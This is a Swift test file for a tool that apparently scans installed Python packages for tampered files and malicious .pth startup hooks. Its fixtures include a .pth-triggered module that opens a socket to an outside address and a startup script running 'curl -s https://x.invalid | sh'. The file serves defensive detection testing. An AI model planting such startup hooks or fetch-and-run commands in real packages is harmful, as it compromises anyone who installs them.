import AlterTestSupport
import Foundation
import Testing

@testable import AlterKit

/// An installed distribution inspected from the files its RECORD lists.
@Suite struct InstalledDistributionTests {
    /// Lays `builder`'s wheel out as pip installs it under `prefix/lib/python3.12/site-packages`.
    func install(_ builder: ArtifactBuilder, prefix: URL) throws -> String {
        let site = prefix.appendingPathComponent("lib/python3.12/site-packages")
        for member in builder.wheelMembers() {
            let url = site.appendingPathComponent(member.path)
            try FileManager.default.createDirectory(
                at: url.deletingLastPathComponent(), withIntermediateDirectories: true)
            try member.data.write(to: url)
        }
        return site.path
    }

    @Test func cleanInstallIsQuietAndATamperedFileIsHigh() throws {
        let prefix = try TestPaths.temporaryDirectory()
        defer { try? FileManager.default.removeItem(at: prefix) }
        var b = ArtifactBuilder(name: "tidy", version: "3.0")
        b.add("tidy/__init__.py", "def f():\n    return 1\n")
        let site = try install(b, prefix: prefix)
        let clean = try ArtifactReader.inspectInstalled(distInfo: b.distInfo, sitePackages: site)
        #expect(clean.findings.isEmpty, "\(clean.findings)")
        #expect(clean.format == .installed)
        #expect(clean.project == "tidy")

        // Someone changed the installed code after pip installed it.
        try Data("import os\ndef f():\n    return 1\n".utf8).write(to: URL(fileURLWithPath: site + "/tidy/__init__.py"))
        let changed = try ArtifactReader.inspectInstalled(distInfo: b.distInfo, sitePackages: site)
        let mismatch = changed.findings.first { $0.kind == .recordMismatch }
        #expect(mismatch?.severity == .high)
        #expect(mismatch?.evidence.contains("changed since it was installed") == true)
    }

    @Test func installedPthPayloadIsCritical() throws {
        let prefix = try TestPaths.temporaryDirectory()
        defer { try? FileManager.default.removeItem(at: prefix) }
        var b = ArtifactBuilder(name: "sneaky", version: "1.0")
        b.add("sneaky/__init__.py", "")
        b.add("sneaky.pth", "import sneaky_boot\n")
        b.add("sneaky_boot.py", "import socket\nsocket.create_connection(('203.0.113.5', 443))\n")
        let site = try install(b, prefix: prefix)
        let r = try ArtifactReader.inspectInstalled(distInfo: b.distInfo, sitePackages: site)
        #expect(r.findings.first { $0.kind == .pthCode }?.severity == .critical)
        #expect(r.findings.contains { $0.kind == .network && $0.file == "sneaky_boot.py" && $0.phase == .startup })
        #expect(throws: InspectError.self) {
            try ArtifactReader.inspectInstalled(distInfo: "missing-1.0.dist-info", sitePackages: site)
        }
    }
}

@Suite struct UnownedStartupFileTests {
    @Test func pthLeftBehindByAnInstallScriptIsFound() throws {
        let prefix = try TestPaths.temporaryDirectory()
        defer { try? FileManager.default.removeItem(at: prefix) }
        var b = ArtifactBuilder(name: "owned", version: "1.0")
        b.add("owned/__init__.py", "")
        b.add("owned.pth", "import owned\n")
        let site = try InstalledDistributionTests().install(b, prefix: prefix)
        #expect(try ArtifactReader.inspectUnownedStartupFiles(sitePackages: site).findings.isEmpty)

        try Data("import _helper\n".utf8).write(to: URL(fileURLWithPath: site + "/zz_helper.pth"))
        try Data("import os\nos.system('curl -s https://x.invalid | sh')\n".utf8)
            .write(to: URL(fileURLWithPath: site + "/_helper.py"))
        let r = try ArtifactReader.inspectUnownedStartupFiles(sitePackages: site)
        let pth = r.findings.first { $0.kind == .pthCode }
        #expect(pth?.file == "zz_helper.pth")
        #expect(pth?.severity == .critical)
        #expect(pth?.evidence.contains("not listed by any installed distribution") == true)
        #expect(!r.findings.contains { $0.file == "owned.pth" })
    }
}
